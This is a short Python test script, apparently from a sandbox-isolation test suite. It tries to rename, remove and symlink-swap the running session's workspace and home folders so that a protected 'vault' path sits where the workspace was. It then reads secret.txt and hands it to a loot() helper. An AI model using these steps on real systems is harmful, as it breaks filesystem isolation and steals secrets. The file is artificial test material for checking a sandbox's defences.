"""Rename, replace and remove the workspace and the folders above it, under the running session."""

# aims: secret
# control: none (there is no cell around it outside)
import os

from attack import attempt, loot, target, tried

work, home = target["work"], target["home"]
tried()
os.chdir("/")
for path in (work, home):
    attempt(os.rename, path, path + "-moved")
    attempt(os.rmdir, path)
    attempt(lambda path=path: os.symlink("/", path + "/x") if False else os.unlink(path))
os.makedirs(f"{home}/other/marks", exist_ok=True)
attempt(os.rename, f"{home}/other", work)
attempt(os.symlink, target["vault"], f"{home}/work-link")
attempt(os.replace, f"{home}/work-link", work)
data = attempt(lambda: open(f"{work}/secret.txt").read())
if data:
    loot(data)
